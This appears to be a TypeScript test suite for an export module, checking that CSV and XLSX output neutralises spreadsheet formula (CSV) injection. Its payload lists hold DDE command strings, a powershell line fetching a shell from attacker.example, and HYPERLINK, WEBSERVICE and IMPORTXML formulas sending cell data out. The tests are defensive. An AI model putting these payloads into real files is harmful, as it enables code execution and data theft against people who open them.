/** What has been tried against spreadsheets (OWASP's "CSV Injection" and the lists that testers share), against every format. */
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { read as readBook } from 'xlsx';
import { defaultExportFormat, type CsvFormat, type ExportFormat } from '../../../src/export/export-types';
import { exportRows, type ExportEvent } from '../../../src/export/write-report';
import type { ColumnSpec } from '../../../src/reports/report-types';
import { pageOf } from '../reports/fake-source';
import { readXlsx } from './read-back';

const commands = [
  '=cmd|\' /C calc\'!A0', '=cmd|\'/C powershell IEX(wget attacker.example/shell.exe)\'!A0', '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\'!\'\'', '=DDE("cmd";"/C calc";"!A0")A0',
  '=rundll32|\'URL.dll,OpenURL calc.exe\'!A', '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: click here")', '=WEBSERVICE("http://attacker.example/")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a/a10")', '=1+1";=1+1', '=1+1\'" ;,=1+1', '=A1:A9', '=IF(1,2,3)', '=',
];
const signs = ['+1+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+thespanishinquisition(cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@cmd|\'x\'!A', '--1', '++1', '-(1)', '+(1)', '-A1', '+A1', '-', '+', '@'];
/** Spreadsheets of East Asian locales take these for the narrow ones. */
const wide = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '＝cmd|\' /C calc\'!A0'];
/** Whoever trims a field meets the sign first. */
const led = [' ', '   ', '\t', '\r', '\n', '\r\n', '\u000b', '\u000c', '\u0000', '\u00a0', '\u3000', '\ufeff', '\u200b', ' \t ', ' '.repeat(500)].flatMap((space) => ['=1+1', '@SUM(1)', '-1+A1', '＝1'].map((sign) => space + sign));
const payloads = [...commands, ...signs, ...wide, ...led, '\tx', '\rx', '\nx'];

/** Stays as it is: a number is a number, prose is prose. */
const harmless = ['-1', '+1', '-1.5', '-.5', '1', '1e5', '-1E+5', ' -12 ', '2015-08-31T16:02:41.65', '0001-01-01T00:00:00', 'a=b', 'x\n=1+1', 'x\t=1', '"=1+1"', '\'=1', 'e-mail@example.com', 'https://example.com/?a=b', '(=1)', '🙂=1', '≠1', '％1', '  plain', '\u3000全角', '“quoted”', ' ', ''];

const column = (name: string): ColumnSpec => ({ name, type: 'text', origin: 'api' });

async function written(rows: readonly object[], specs: readonly ColumnSpec[], format: ExportFormat): Promise<{ bytes: Buffer; file: string; guardedCells: number; done: () => Promise<void> }> {
  const folder = await mkdtemp(path.join(tmpdir(), 'listrak-formulas-'));
  async function* events(): AsyncGenerator<ExportEvent> {
    yield { type: 'columns', specs };
    yield { type: 'page', page: pageOf(rows) };
  }
  const file = path.join(folder, `rows.${format.type}`);
  const { guardedCells } = await exportRows(events(), file, format, { signal: new AbortController().signal });
  return { file, guardedCells, bytes: await readFile(file), done: () => rm(folder, { recursive: true }) };
}

async function csvOf(values: readonly string[], format: CsvFormat = defaultExportFormat): Promise<{ cells: string[]; text: string; guardedCells: number }> {
  const { bytes, guardedCells, done } = await written(values.map((value) => ({ a: value, b: 1 })), [column('a'), column('b')], format);
  await done();
  const text = bytes.toString('utf8');
  const rows: string[][] = parse(text, { delimiter: format.delimiter, record_delimiter: format.lineEnding, from_line: 2 });
  return { cells: rows.map(([cell = '']) => cell), text, guardedCells };
}

describe('formula payloads', () => {
  it('begin with an apostrophe in CSV, in every dialect, and are counted', async () => {
    for (const delimiter of [',', ';', '\t', '|']) {
      for (const lineEnding of ['\r\n', '\n'] as const) {
        const { cells, guardedCells } = await csvOf(payloads, { ...defaultExportFormat, delimiter, lineEnding });
        assert.deepEqual(cells, payloads.map((payload) => `'${payload}`));
        assert.equal(guardedCells, payloads.length);
      }
    }
  });

  it('are no formula to a foreign reader of the CSV, which takes them for formulas without the guard', async () => {
    const formulas = (text: string): string[] => {
      const sheet = Object.values(readBook(Buffer.from(text), { type: 'buffer', codepage: 65001 }).Sheets)[0] ?? assert.fail('no sheet');
      return Object.entries(sheet).flatMap(([place, cell]) => (place.startsWith('!') || (cell as { f?: string }).f === undefined ? [] : [place]));
    };
    assert.deepEqual(formulas((await csvOf(payloads)).text), []);
    assert.ok(formulas((await csvOf(payloads, { ...defaultExportFormat, formulaGuard: false })).text).length >= commands.length - 1);
  });

  it('leave numbers, dates and prose as they are', async () => {
    const { cells, guardedCells } = await csvOf(harmless);
    assert.deepEqual(cells, harmless);
    assert.equal(guardedCells, 0);
    const { bytes, done } = await written([{ a: -1.5, b: -100000 }, { a: 0, b: -5e-7 }], [column('a'), column('b')], defaultExportFormat);
    await done();
    assert.equal(bytes.toString(), 'a,b\r\n-1.5,-100000\r\n0,-5e-7\r\n');
  });

  it('are guarded in the header too: a profile field may be named for one', async () => {
    const { bytes, done } = await written([{ '=cmd|\'x\'!A': 1, ' =1': 2 }], [column('=cmd|\'x\'!A'), column(' =1')], defaultExportFormat);
    await done();
    assert.equal(bytes.toString(), '\'=cmd|\'x\'!A,\' =1\r\n1,2\r\n');
  });

  it('stand as they came where the guard is off, and in NDJSON', async () => {
    const off = await csvOf(payloads, { ...defaultExportFormat, formulaGuard: false });
    assert.deepEqual([off.cells, off.guardedCells], [payloads, 0]);
    const { bytes, done } = await written(payloads.map((a) => ({ a })), [column('a')], { type: 'ndjson' });
    await done();
    assert.deepEqual(bytes.toString().trimEnd().split('\n').map((line) => (JSON.parse(line) as { a: string }).a), payloads);
  });

  it('are text in Excel\'s own format', async () => {
    const { file, done } = await written(payloads.map((a) => ({ a })), [column('a'), column('=1+1')], { type: 'xlsx' });
    const [sheet] = await readXlsx(file);
    await done();
    assert.deepEqual(sheet?.header, ['a', '=1+1']);
    assert.equal(sheet?.rows.length, payloads.length);
    for (const [row, { a }] of sheet?.rows.entries() ?? []) assert.deepEqual([a?.t, a?.f, a?.v], ['s', undefined, payloads[row]]);
  });

  it('of a megabyte cost no more than reading them', async () => {
    const { cells } = await csvOf([`-${'1'.repeat(1_000_000)}x`, `${' '.repeat(1_000_000)}=1`, '\u200b'.repeat(300_000)]);
    assert.deepEqual(cells.map((cell) => cell.slice(0, 2)), ['\'-', '\' ', '\u200b\u200b']);
  });

  it('are found however they are led, and nothing else is touched', async () => {
    const space = fc.string({ unit: fc.constantFrom(' ', '\t', '\n', '\r', '\u00a0', '\u3000', '\u200b'), maxLength: 6 });
    const rest = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '＝', '1', '.', 'e', 'a', ' ', '\'', '"', ',', 'é', '漢') });
    await fc.assert(fc.asyncProperty(fc.array(fc.tuple(space, rest).map(([before, after]) => before + after), { minLength: 1, maxLength: 50 }), async (values) => {
      const { cells } = await csvOf(values);
      values.forEach((value, index) => {
        const inner = value.replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
        const number = /^ *[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)? *$/.test(value);
        const guarded = !number && (/^[\t\r\n]/.test(value) || /^[=+\-@＝＋－＠]/.test(inner));
        assert.equal(cells[index], guarded ? `'${value}` : value, JSON.stringify(value));
      });
    }), { numRuns: 100 });
  });
});
